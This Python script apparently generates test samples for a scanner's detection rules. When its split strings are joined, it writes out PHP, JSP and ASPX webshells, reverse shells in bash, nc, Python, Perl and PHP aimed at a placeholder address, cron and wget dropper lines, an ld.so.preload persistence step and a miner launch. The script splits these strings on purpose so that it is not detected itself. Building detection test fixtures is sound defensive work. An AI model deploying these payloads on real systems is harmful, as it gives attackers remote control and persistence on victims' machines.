#!/usr/bin/env python3
"""Write one harmless file for each house rule: house_samples.py OUTDIR.

None of them does anything; they only hold the words the rule looks for, and
the words stand in pieces here so that this script is not found itself.
"""
# SPDX-License-Identifier: Apache-2.0
import os
import sys

SAMPLES = {
    'Candor.Test.EICAR': [
        'X5O!P%@AP[4\\PZX54(P^)7CC)7}',
        '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!',
        '$H+H*',
    ],
    'Candor.Webshell.PHP.EvalRequest': [
        '<',
        '?php @ev',
        'al(bas',
        'e64_decode($_PO',
        "ST['x'])); ?",
        '>\n',
    ],
    'Candor.Webshell.PHP.SystemRequest': [
        '<',
        '?php sys',
        'tem($_GE',
        "T['cmd']); ?",
        '>\n',
    ],
    'Candor.Webshell.PHP.PackedEval': [
        '<',
        '?php ev',
        'al(gzin',
        'flate(base64',
        "_decode('eJwDAAAAAAE='))); ?",
        '>\n',
    ],
    'Candor.Webshell.PHP.WSO': [
        '<',
        '?php\n$au',
        "th_pass = '';\n$default",
        "_action = 'Files",
        "Man';\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n// filler, so that the file has an ordinary size\n",
    ],
    'Candor.Webshell.JSP.Exec': [
        '<',
        '% Runtime.getRun',
        'time().ex',
        'ec(request.getPara',
        'meter("c")); %',
        '>\n',
    ],
    'Candor.Webshell.ASPX.EvalRequest': [
        '<',
        '%@ Page Language="Jscript"%',
        '><',
        '%ev',
        'al(Request.It',
        'em["x"],"unsafe");%',
        '>\n',
    ],
    'Candor.Backdoor.Shell.DevTcp': [
        '#!/bin/sh\nba',
        'sh -i >& /dev',
        '/tcp/192.0.2.1/4444 0>',
        '&1\n',
    ],
    'Candor.Backdoor.Shell.MkfifoNc': [
        '#!/bin/sh\nmkf',
        'ifo /tmp/f; cat /tmp/f | /bin',
        '/sh -i 2>&',
        '1 |n',
        'c 192.0.2.1 4444 > /tmp/f\n',
    ],
    'Candor.Backdoor.Python.ReverseShell': [
        'import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SO',
        "CK_STREAM)\ns.connect(('192.0.2.1',4444))\nos.du",
        'p2(s.fil',
        'eno(),0)\n',
        'p=subprocess.call(["/bin',
        '/sh","-i',
        '"])\n',
    ],
    'Candor.Backdoor.Perl.ReverseShell': [
        '#!/usr/bin/perl\nuse Soc',
        "ket;\nconnect(S,sockaddr_in(4444,inet_aton('192.0.2.1')));\nopen(ST",
        'DIN,">',
        '&S");\nex',
        'ec("/bin',
        '/sh -i");\n',
    ],
    'Candor.Backdoor.PHP.ReverseShell': [
        '<',
        '?php $s=fsock',
        "open('192.0.2.1',4444); exec('/bin",
        '/sh -i <',
        '&3 >&3 2>',
        "&3');\n",
    ],
    'Candor.Miner.Script.Install': [
        '#!/bin/sh\nnohup /var/tmp/.x/x -o strat',
        'um+tcp://pool.example:3333 >/dev/null 2>&1 &\n',
    ],
    'Candor.Dropper.Shell.CdTmpChain': [
        '#!/bin/sh\ncd /tmp || cd /var',
        '/run || cd /mnt || cd /root || cd /; wget http://192.0.2.1/a; chmod 777 a; ./a; rm a\n',
    ],
    'Candor.Dropper.Shell.CronFetch': [
        '#!/bin/sh\n(crontab -l; echo "*/5 * * * * curl -fs',
        'SL http://192.0.2.1/i.sh | s',
        'h") | cron',
        'tab -\n',
    ],
    'Candor.Rootkit.Shell.LdPreload': [
        '#!/bin/sh\necho /usr/local/lib/x.so >> /et',
        'c/ld.so.pre',
        'load\nchat',
        'tr +i /etc/ld.so.prel',
        'oad\n',
    ],
    'Candor.Dropper.Python.PackedExec': [
        'import zlib,base64\nex',
        'ec(zlib.decom',
        'press(base64.b64d',
        "ecode('eJwDAAAAAAE=')))\n",
    ],
    'Candor.Dropper.Memfd.Script': [
        '#!/usr/bin/perl\nmy $fd = sysc',
        'all(319, \'x\', 1); open(my $o, \'>&=\', $fd); exec {"/proc/$',
        '$/fd/$fd"} \'x\';\n',
    ],
}


def miner():
    """An ELF header, padding, and the words of a miner."""
    words = ['stra' 'tum+tcp://', 'donate' '-level', 'rand' 'omx']
    head = b'\x7fELF\x02\x01\x01' + bytes(9) + b'\x02\0\x3e\0\x01\0\0\0'
    return head + bytes(16384) + b'\0'.join(w.encode() for w in words)


def samples():
    made = {name: ''.join(parts).encode('latin-1')
            for name, parts in SAMPLES.items()}
    made['Candor.Miner.ELF.Stratum'] = miner()
    return made


if __name__ == '__main__':
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    for name, data in samples().items():
        with open(os.path.join(out, name + '.sample'), 'wb') as f:
            f.write(data)
